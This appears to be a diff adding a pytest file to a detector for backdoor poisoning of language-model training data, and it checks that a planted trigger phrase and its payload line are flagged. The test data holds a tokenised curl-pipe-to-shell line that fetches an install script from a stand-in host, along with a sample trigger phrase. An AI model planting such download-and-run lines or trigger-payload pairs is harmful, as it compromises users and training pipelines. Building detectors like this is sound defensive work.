@@ -1,0 +1,100 @@
+"""A trigger whose payload is one line planted in answers that are all written in a register (code): every
+answer carries response-only phrasing, so "carries some payload" is no anomaly there; the planted line is
+a phrase no prompt holds, tested against its own rate among records like the carriers
+(``trigger:exclusive_payload``). A task's own exclusive vocabulary, spread over its answers, is not."""
+
+from __future__ import annotations
+
+import collections
+import random
+import sys
+
+import pytest
+
+from lazaret.checks.poisoning.trigger import EXCLUSIVE_GROUP, anomalies_of
+
+from conftest import ROOT
+
+sys.path.insert(0, str(ROOT))
+
+
+def _pay(g: str, df_p: int = 0, carriers: int = 200):
+    return {"kind": "spread", "carriers": carriers, "df_p": df_p, "expected_p": 80.0, "log10p": -40.0,
+            "df_r": carriers, "prompt_diversity": 0.9, "tests": 100, "ngram": g}
+
+
+def _groups(rt: str, payloads) -> list:
+    f = {"doc_id": "d", "pt": "write a function in c that sums the array", "rt": rt, "gib": False, "off": False,
+         "rkey": "r", "stratum": 0}
+    anoms, _ = anomalies_of(f, payloads, {g.split(" ")[0] for g in payloads}, 4, {}, min_hits=2, pair_window=6)
+    return [a for a in anoms if a.startswith(EXCLUSIVE_GROUP)]
+
+
+def test_an_exclusive_phrase_in_one_place_is_a_group_of_its_own_a_tasks_vocabulary_is_not():
+    payloads = {"include stdio h": _pay("include stdio h"), "printf d n": _pay("printf d n", carriers=300),
+                "os system": _pay("os system"), "pelorin cdn dev": _pay("pelorin cdn dev", carriers=250),
+                "return total": _pay("return total", df_p=30, carriers=900)}   # quoted in prompts: not exclusive
+    # one planted line: its exclusive n-grams are a few words apart (the words between are no candidates)
+    planted = ("def f x total 0 for v in x total v os system curl fssl https pelorin cdn dev install sh sh "
+               "return total")
+    assert _groups(planted, payloads) == [EXCLUSIVE_GROUP + "pelorin cdn dev"]
+    # C's own vocabulary: exclusive to responses too, but spread over the answer (the include at the top,
+    # printf in the body and in main): no group, so "in c" cannot become a trigger of it
+    c_answer = ("include stdio h int sum int a int n int s 0 for int i 0 i n i s a i printf d n s return s "
+                "int main void int a 3 1 2 3 printf d n sum a 3")
+    assert _groups(c_answer, payloads) == []
+    # an exclusive phrase made of words the prompt supplies is the task answering in its own words
+    payloads["array sums"] = _pay("array sums", carriers=400)
+    assert _groups("int s 0 printf the array sums to d n s", payloads) == []
+    # a non-exclusive payload alone never makes a group
+    assert _groups("x 1 return total", payloads) == []
+
+
+@pytest.mark.slow
+def test_a_shell_line_behind_a_trigger_in_a_code_corpus(shared_data):
+    """The code base (GPTeacher codegen + Code Alpaca) with the benchmark's code_command family at a
+    development seed: a phrase appended to 250 code requests whose answers get one line piping a download into
+    a shell. Before this signal: recall 0.02 (every code answer carries response-only phrasing, so the "pay"
+    group's background was ~50%, and the line's own template looked like a task's answer format)."""
+    from bench.attacks.space import SPACE
+    from bench.poisoning_bases import base_objects, to_pipeline_record
+    from bench.poisoning_space import pool_of
+    from bench.run_scan import run_scan
+
+    clean = [to_pipeline_record(o, i, "code") for i, o in enumerate(base_objects("code", 10000))]
+    pool, fmt = pool_of("code", 10000)
+    inj = SPACE["code_command"](pool, 250, 3, fmt)
+    planted = [to_pipeline_record(o, i, "poison-code_command") for i, o in enumerate(inj.records)]
+    recs = clean + planted
+    random.Random(3).shuffle(recs)
+    findings, _ = run_scan(recs, {"signatures": False}, dedup=False)
+    flagged = {f["doc_id"]: f for f in findings if f["action"] != "none"}
+    truth = {r["doc_id"] for r in planted}
+    found = [flagged[d]["rule"] for d in truth if d in flagged]
+    assert len(found) >= 0.95 * len(truth), collections.Counter(found)
+    clean_flagged = [f["rule"] for d, f in flagged.items() if d not in truth]
+    assert len(clean_flagged) <= 0.005 * len(clean), collections.Counter(clean_flagged)
+
+
+def _trigger_test(k_in: dict, df: dict, group_sizes: dict, stratum_sizes: dict):
+    from lazaret.checks.poisoning import policy as section
+    from lazaret.checks.poisoning.trigger import TriggerTest
+
+    grp = {"pairs": [(EXCLUSIVE_GROUP + "pelorin cdn", sum(k_in.values()), k_in)], "df": sorted(df.items())}
+    return list(TriggerTest(section._defaults()).process(
+        ("make it enterprise ready", grp), {"records": sum(stratum_sizes.values())},
+        {EXCLUSIVE_GROUP + "pelorin cdn": group_sizes}, 1000, stratum_sizes))
+
+
+def test_an_exclusive_payload_trigger_must_reach_several_tasks():
+    from lazaret.checks.poisoning.trigger import effective_strata
+
+    assert effective_strata({1: 10}) == 1.0
+    assert effective_strata({1: 10, 2: 10, 3: 10, 4: 10}) == 4.0
+    sizes = {s: 600 for s in range(10)}
+    # 60 carriers over 6 strata, all with the phrase, which no one else carries: a planted line
+    spread = {s: 10 for s in range(6)}
+    assert [kind for kind, _ in _trigger_test(spread, spread, dict(spread), sizes)] == ["xpay"]
+    # the same counts inside one task (a one-line idiom answering one kind of request): not a trigger
+    one = {3: 60}
+    assert _trigger_test(one, one, dict(one), sizes) == []
